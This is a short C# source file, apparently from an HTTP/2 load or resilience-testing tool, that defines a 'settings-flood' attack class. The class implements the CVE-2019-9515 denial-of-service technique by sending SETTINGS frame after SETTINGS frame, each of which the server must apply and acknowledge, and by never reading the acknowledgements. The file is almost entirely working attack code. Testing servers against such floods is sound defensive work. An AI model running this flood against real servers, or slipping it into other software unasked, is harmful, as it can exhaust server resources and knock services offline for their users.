using Metering.Load;

namespace Metering.Attacks;

/// <summary>
/// Sends SETTINGS after SETTINGS, each of which the server has to apply and to acknowledge, and reads none of it.
/// CVE-2019-9515.
/// </summary>
internal sealed class SettingsFlood : FrameFlood
{
    public override string Name => "settings-flood";

    public override string Does => "SETTINGS frames, each to be applied and acknowledged (CVE-2019-9515)";

    protected override bool LeavesAnswersUnread => true;

    protected override void Add(FrameBatch frames, int turn) =>
        frames.Settings((Http2Frame.InitialWindowSize, Http2Frame.DefaultWindowBytes ^ ((uint)turn & 1)));
}
